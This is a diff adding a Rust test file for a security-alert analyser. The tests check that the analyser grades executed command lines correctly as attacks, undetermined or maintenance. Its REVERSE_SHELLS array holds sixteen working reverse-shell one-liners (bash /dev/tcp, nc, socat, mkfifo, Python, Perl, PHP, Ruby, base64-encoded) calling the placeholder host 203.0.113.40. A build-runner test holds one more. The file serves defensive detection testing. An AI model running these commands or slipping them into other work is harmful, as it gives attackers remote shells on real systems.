@@ -1,0 +1,117 @@
+//! What is done and cannot be anything else must not end undetermined, and what only looks like it must not be called an
+//! attack.
+
+#[allow(dead_code, reason = "each test needs a part of it")]
+#[path = "common.rs"]
+mod common;
+
+use alert::Alert;
+use report::Report;
+use serde_json::json;
+
+/// The report on an exec of this command line, done, below this parent.
+fn exec(parent: &str, grandparent: &str, line: &str) -> Report {
+    let name = line.split(' ').next().unwrap_or_default().rsplit('/').next().unwrap_or_default();
+    let fields = json!({
+        "evt.type": "execve", "evt.res": "SUCCESS", "proc.name": name, "proc.cmdline": line, "proc.pname": parent,
+        "proc.aname[2]": grandparent, "container.id": "9f1c2ab77d10", "user.uid": 33, "proc.tty": 0,
+    });
+    let line = json!({ "rule": "A rule of our own", "source": "syscall", "output_fields": fields }).to_string();
+    let alert: Alert = analysis::analyse(line.as_bytes(), None).alerts.remove(0);
+    common::report(alert)
+}
+
+/// Shells that are handed to the other end of a connection, whoever started them.
+const REVERSE_SHELLS: [&str; 16] = [
+    "bash -c bash -i >& /dev/tcp/203.0.113.40/4444 0>&1",
+    "sh -c bash -i >&/dev/tcp/203.0.113.40/443 <&1",
+    "bash -c 0<&196;exec 196<>/dev/tcp/203.0.113.40/4444; sh <&196 >&196 2>&196; while read line; do $line; done",
+    "nc -e /bin/sh 203.0.113.40 4444",
+    "/usr/bin/ncat 203.0.113.40 4444 -e /bin/bash",
+    "nc.traditional -c bash 203.0.113.40 4444",
+    "ncat --sh-exec bash 203.0.113.40 4444",
+    "socat tcp-connect:203.0.113.40:4444 exec:'bash -li',pty,stderr,setsid",
+    "socat TCP-LISTEN:8080,fork EXEC:/bin/bash",
+    "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.40 4444 >/tmp/f",
+    "python3 -c import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.40\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\"])",
+    "perl -e use Socket;$i=\"203.0.113.40\";socket(S,PF_INET,SOCK_STREAM,0);connect(S,x);open(STDIN,\">&S\");exec(\"/bin/sh -i\");",
+    "php -r $s=fsockopen(\"203.0.113.40\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
+    "ruby -rsocket -e c=TCPSocket.new(\"203.0.113.40\",4444);while(cmd=c.gets);IO.popen(cmd){|io|c.print io.read}end",
+    "node -e (function(){var cp=require('child_process'),net=require('net');var s=new net.Socket();})()",
+    "sh -c echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNDAvNDQ0NCAwPiYx | base64 -d | bash",
+];
+
+/// Code that was given to an interpreter on the spot: under a web server that is an attack, elsewhere it is daily work.
+const INLINE: [&str; 6] = [
+    "python3 -c import os;print(os.environ)",
+    "/usr/bin/perl -MData::Dumper -e print 1",
+    "php -r echo getcwd();",
+    "ruby -e puts 1",
+    "sh -c python3 -c print(1)",
+    "node -e console.log(1)",
+];
+
+/// Lines that look like one of these and are not.
+const HARMLESS: [&str; 8] = [
+    "bash -c echo > /dev/tcp/db/5432",
+    "timeout 1 bash -c cat < /dev/null > /dev/tcp/db/5432 2>&1",
+    "bash -c exec 3<>/dev/tcp/127.0.0.1/8080; echo -e GET / >&3; cat <&3",
+    "nc -z db 5432",
+    "nc -w 2 -vz example.org 443",
+    "socat TCP-LISTEN:8080,fork TCP:backend:80",
+    "python3 -c import socket;socket.create_connection((\"db\",5432))",
+    "php artisan schedule:run",
+];
+
+fn assessment(report: &Report) -> String {
+    common::badge(report, "Assessment")
+}
+
+#[test]
+fn a_whole_reverse_shell_that_is_done_is_an_attack() {
+    for line in REVERSE_SHELLS {
+        let report = exec("bash", "sshd", line);
+        assert_eq!(assessment(&report), "true positive", "{line}");
+    }
+}
+
+#[test]
+fn code_on_the_command_line_is_an_attack_under_a_web_server_only() {
+    for line in INLINE {
+        for (parent, grandparent) in [("php-fpm8.2", "php-fpm8.2"), ("apache2", "apache2"), ("sh", "nginx")] {
+            let report = exec(parent, grandparent, line);
+            assert_eq!(assessment(&report), "true positive", "{parent}: {line}");
+        }
+        assert_eq!(assessment(&exec("bash", "sshd", line)), "undetermined", "{line}");
+    }
+}
+
+#[test]
+fn what_only_looks_like_one_is_no_attack() {
+    for line in HARMLESS {
+        assert_eq!(assessment(&exec("bash", "containerd-shim", line)), "undetermined", "{line}");
+    }
+}
+
+/// The job may be planned and the attack come with the code that it builds.
+#[test]
+fn a_runner_of_build_jobs_does_not_explain_an_attack_away() {
+    let build = "sh -c make -C /home/runner/work/app/app";
+    assert!(assessment(&exec("Runner.Worker", "Runner.Listener", build)).contains("maintenance"));
+    let attack = "bash -c cd /home/runner/work/app/app; bash -i >& /dev/tcp/203.0.113.40/4444 0>&1";
+    assert_eq!(assessment(&exec("Runner.Worker", "Runner.Listener", attack)), "true positive");
+}
+
+#[test]
+fn what_is_decoded_is_shown_as_a_value_of_the_alert() {
+    let report = exec("bash", "sshd", "sh -c echo PGI+IFsxXSh4KSBgaWRgIDwvYj4= | base64 -d | sh");
+    let values: Vec<&str> = common::sentences(&report)
+        .into_iter()
+        .flat_map(|(_, sentence)| &sentence.inlines)
+        .filter_map(|inline| match inline {
+            report::Inline::Evidence { field, value } if field == "proc.cmdline" => Some(value.as_raw()),
+            _ => None,
+        })
+        .collect();
+    assert!(values.contains(&"<b> [1](x) `id` </b>"), "{values:?}");
+}
